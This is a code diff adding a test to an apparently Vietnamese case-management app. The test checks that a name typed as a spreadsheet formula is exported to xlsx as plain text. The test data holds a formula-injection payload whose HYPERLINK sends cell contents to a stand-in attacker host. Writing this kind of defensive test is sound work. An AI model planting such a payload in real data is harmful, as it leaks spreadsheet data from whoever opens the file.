@@ -87,6 +87,23 @@ def test_the_case_list_export_follows_the_search(
     assert "1 dòng" in entry.detail
 
 
+def test_text_that_looks_like_a_formula_is_exported_as_text(
+    unit_a, prosecutor_a, make_case, client_for
+):
+    """A name typed as a spreadsheet formula must not run in the Excel of
+    whoever opens the export (a provincial leader, another prosecutor)."""
+    planted = '=HYPERLINK("http://evil.example/?"&A1,"Mở")'
+    make_case(unit_a, full_name=planted, prosecutor=prosecutor_a)
+    client = _fresh(client_for(prosecutor_a))
+
+    response = client.get("/ho-so/?xuat=xlsx")
+
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value]
+    assert planted in [cell.value for cell in cells]
+    assert {cell.data_type for cell in cells if cell.value == planted} == {"s"}
+
+
 def test_the_work_list_export_holds_the_whole_sections(
     three_overdue, prosecutor_a, client_for, monkeypatch
 ):
